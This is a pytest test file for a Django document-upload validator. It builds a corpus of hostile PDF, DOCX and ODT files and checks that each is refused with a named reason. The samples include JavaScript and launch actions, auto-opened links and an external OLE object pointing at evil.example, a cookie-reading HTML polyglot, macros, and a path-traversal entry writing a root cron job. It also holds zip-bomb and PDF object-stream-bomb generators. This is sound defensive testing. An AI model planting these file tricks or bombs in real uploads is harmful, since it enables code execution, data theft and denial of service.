"""A corpus of hostile uploads: each is refused, with a message that names the problem."""

import io
import time
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from agreements.models import AgreementDocument
from tests.factories import docx_bytes, make_agreement, odt_bytes, pdf_bytes

pytestmark = pytest.mark.django_db
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def archive(members, *, first_stored=None, compress=zipfile.ZIP_DEFLATED):
    """A zip archive of {name: bytes}; `first_stored` is written first, uncompressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as zf:
        if first_stored:
            name, data = first_stored
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_STORED)
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def docx_with(**extra):
    """The factories' DOCX with more members."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    members = {info.filename: source.read(info) for info in source.infolist()}
    members.update(extra)
    return archive(members)


def bomb_member(size=16 * 1024 * 1024):
    return b" " * size


def odt_members():
    source = zipfile.ZipFile(io.BytesIO(odt_bytes()))
    return {i.filename: source.read(i) for i in source.infolist() if i.filename != "mimetype"}


CORPUS = {
    "pdf-javascript-on-open": (
        "a.pdf",
        lambda: pdf_bytes(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "it runs JavaScript",
    ),
    "pdf-javascript-in-names": (
        "a.pdf",
        lambda: pdf_bytes(catalog=b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >>"),
        "it runs JavaScript",
    ),
    "pdf-escaped-javascript-in-an-outline": (
        "a.pdf",
        lambda: pdf_bytes(
            catalog=b"/Outlines << /First << /Title (x) /A << /S /J#61vaScript "
            b"/J#53 (app.alert(1)) >> >> >>"
        ),
        "it runs JavaScript",
    ),
    "pdf-launch": (
        "a.pdf",
        lambda: pdf_bytes(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "it can launch programs",
    ),
    "pdf-embedded-file": (
        "a.pdf",
        lambda: pdf_bytes(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
        "it carries embedded files",
    ),
    "pdf-html-polyglot": (
        "a.pdf",
        lambda: pdf_bytes() + b"<html><script>alert(document.cookie)</script></html>",
        "it also contains a web page (a PDF/HTML polyglot)",
    ),
    "pdf-unreadable": ("a.pdf", lambda: b"%PDF-1.7\n" + b"\x00garbage" * 50, "cannot be read"),
    "docx-html-part": (
        "a.docx",
        lambda: docx_with(**{"word/page.html": b"<html></html>"}),
        "it carries a web page, script or program (page.html)",
    ),
    "docx-svg-part": (
        "a.docx",
        lambda: docx_with(**{"word/media/image1.svg": b"<svg onload='alert(1)'/>"}),
        "it carries a web page, script or program (image1.svg)",
    ),
    "docx-macros": (
        "a.docx",
        lambda: docx_with(**{"word/vbaProject.bin": b"\x00" * 64}),
        "it carries macros",
    ),
    "docx-macro-enabled-type": (
        "a.docx",
        lambda: docx_with(
            **{
                "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
                b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "it is a macro-enabled document",
    ),
    "docx-zip-bomb": (
        "a.docx",
        lambda: docx_with(**{"word/document.xml": bomb_member()}),
        "is compressed",
    ),
    "docx-path-traversal": (
        "a.docx",
        lambda: docx_with(**{"../../etc/cron.d/evil": b"* * * * * root sh"}),
        "it holds a file with an unsafe name",
    ),
    "docx-missing-document": (
        "a.docx",
        lambda: archive({"[Content_Types].xml": b"<Types/>", "word/other.xml": b"<x/>"}),
        "it lacks the parts every Word document has",
    ),
    "odt-mimetype-not-first": (
        "a.odt",
        lambda: archive({**odt_members(), "mimetype": ODT_TYPE.encode()}),
        "does not start with the 'mimetype' entry",
    ),
    "odt-wrong-mimetype": (
        "a.odt",
        lambda: archive(odt_members(), first_stored=("mimetype", b"text/html")),
        "does not name an OpenDocument text",
    ),
    "odt-basic-macros": (
        "a.odt",
        lambda: archive(
            {**odt_members(), "Basic/Standard/Module1.xml": b"<script/>"},
            first_stored=("mimetype", ODT_TYPE.encode()),
        ),
        "it carries macros",
    ),
    "odt-mimetype-bomb": (
        "a.odt",
        lambda: archive({"mimetype": bomb_member(), **odt_members()}),
        "is compressed",
    ),
    "docx-external-ole-object": (
        "a.docx",
        lambda: docx_with(
            **{
                "word/_rels/document.xml.rels": b'<Relationships xmlns="x"><Relationship Id="r9" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'oleObject" Target="mhtml:http://evil.example/x.html" TargetMode="External"/>'
                b"</Relationships>"
            }
        ),
        "it embeds or fetches other programs' content or macros",
    ),
    "docx-html-part-by-content-type": (
        "a.docx",
        lambda: docx_with(
            **{
                "[Content_Types].xml": b'<Types><Override PartName="/word/chunk.dat" '
                b'ContentType="text/html"/></Types>',
                "word/chunk.dat": b"<p>hi</p>",
            }
        ),
        "it declares a part of a dangerous kind (text/html)",
    ),
    "docx-macro-type-by-character-reference": (
        "a.docx",
        lambda: docx_with(
            **{
                "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
                b'ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
                b"</Types>"
            }
        ),
        "it declares a part of a dangerous kind",
    ),
    "docx-ole-embedding": (
        "a.docx",
        lambda: docx_with(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 16}),
        "it embeds other programs' objects or macros",
    ),
    "docx-page-with-a-trailing-dot": (
        "a.docx",
        lambda: docx_with(**{"word/x.html.": b"<html></html>"}),
        "it carries a web page, script or program",
    ),
    "docx-html-in-the-archive-comment": (
        "a.docx",
        lambda: docx_bytes()[:-2] + b"\x1a\x00<html><script>alert(1)</script>html...",
        "refused",
    ),
    "odt-event-listener-macro": (
        "a.odt",
        lambda: archive(
            {
                **odt_members(),
                "content.xml": b'<office:document-content xmlns:office="o" xmlns:script="s">'
                b'<office:scripts><script:event-listener script:event-name="dom:load" '
                b'xlink:href="vnd.sun.star.script:x"/></office:scripts></office:document-content>',
            },
            first_stored=("mimetype", ODT_TYPE.encode()),
        ),
        "it runs macros or scripts on events",
    ),
    "pdf-javascript-in-a-nested-annotation-action": (
        "a.pdf",
        lambda: pdf_bytes(
            catalog=b"/AcroForm << /Fields [ << /T (f) /AA << /K << /S /JavaScript "
            b"/JS (app.alert(1)) >> >> >> ] >>"
        ),
        "it runs JavaScript",
    ),
    "pdf-opens-a-link-by-itself": (
        "a.pdf",
        lambda: pdf_bytes(catalog=b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
        "it acts by itself when opened",
    ),
    "doc-ole-header-then-html": (
        "a.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1<html><script>alert(1)</script></html>",
        "Save old Word (.doc) files as DOCX or PDF first",
    ),
}


def errors_for(name, data):
    document = AgreementDocument(
        agreement=make_agreement("Hostile files"), title="Hostile",
        file=SimpleUploadedFile(name, data),
    )  # fmt: skip
    try:
        document.full_clean()
    except ValidationError as error:
        return error.message_dict.get("file", [])
    return []


@pytest.mark.parametrize("case", list(CORPUS))
def test_each_hostile_file_is_refused_naming_the_problem(case):
    name, build, message = CORPUS[case]

    errors = errors_for(name, build())

    assert len(errors) == 1 and message in errors[0], errors


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("plain.pdf", pdf_bytes()),
        ("opens-at-page-one.pdf", pdf_bytes(catalog=b"/OpenAction [3 0 R /Fit]")),
        ("plain.docx", docx_bytes()),
        ("plain.odt", odt_bytes()),
    ],
)
def test_ordinary_documents_pass(name, data):
    assert errors_for(name, data) == []


def test_an_archive_of_too_many_entries_is_refused_before_its_directory_is_read(settings):
    settings.SEARCH_EXTRACT_MAX_ENTRIES = 50
    data = docx_with(**{f"word/part{n}.xml": b"<x/>" for n in range(60)})

    errors = errors_for("many.docx", data)

    assert errors and "it holds 63 files (at most 50 are accepted)" in errors[0]


def test_an_archive_that_lies_about_its_sizes_is_stopped_at_the_cap(settings):
    settings.SEARCH_EXTRACT_MAX_PART_BYTES = 2 * 1024 * 1024
    # Below the ratio check (a few MB of random-ish text), but more than the cap once inflated.
    text = b"".join(b"%d shared services " % n for n in range(200_000))
    data = bytearray(docx_with(**{"word/document.xml": text}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("word/document.xml")
    real = info.file_size.to_bytes(4, "little")
    data = bytes(data).replace(real, (1000).to_bytes(4, "little"))

    errors = errors_for("liar.docx", data)

    assert errors and ("far more than it says" in errors[0] or "damaged" in errors[0])


def test_a_zip_bomb_upload_is_refused_within_a_small_memory_budget():
    data = docx_with(**{"word/document.xml": bomb_member(256 * 1024 * 1024)})
    agreement = make_agreement("Bombs")
    document = AgreementDocument(
        agreement=agreement, title="Bomb", file=SimpleUploadedFile("bomb.docx", data)
    )

    tracemalloc.start()
    try:
        with pytest.raises(ValidationError):
            document.full_clean()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert peak < 8 * 1024 * 1024, f"peak {peak:,} bytes"


def object_stream_bomb(claimed: int) -> bytes:
    """A PDF whose only object stream claims `claimed` objects in a header a few kB packed."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    body, offsets = b"", []
    for obj in objects:
        offsets.append(len(body))
        body += obj + b" "
    junk = len(body)
    body += b"<<>>"
    header = b"".join(b"%d %d " % (n + 1, offsets[n]) for n in range(3))
    header += (b"99 %d " % junk) * claimed
    data = zlib.compress(header + body, 9)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    stream_at = out.tell()
    out.write(
        b"4 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n"
        % (claimed + 3, len(header), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    xref_at = out.tell()
    rows = [b"\0" + b"\0" * 4 + b"\xff\xff"]
    rows += [b"\2" + (4).to_bytes(4, "big") + n.to_bytes(2, "big") for n in range(3)]
    rows += [b"\1" + stream_at.to_bytes(4, "big") + b"\0\0"]
    rows += [b"\1" + xref_at.to_bytes(4, "big") + b"\0\0"]
    table = zlib.compress(b"".join(rows))
    out.write(
        b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>"
        b"stream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out.getvalue()


def test_an_object_stream_claiming_millions_of_objects_is_refused_at_once():
    data = object_stream_bomb(2_000_000)
    assert len(data) < 200_000

    started = time.monotonic()
    errors = errors_for("bomb.pdf", data)

    assert errors and "it holds more than 100,000 objects" in errors[0]
    assert time.monotonic() - started < 5  # was minutes, and the file was accepted
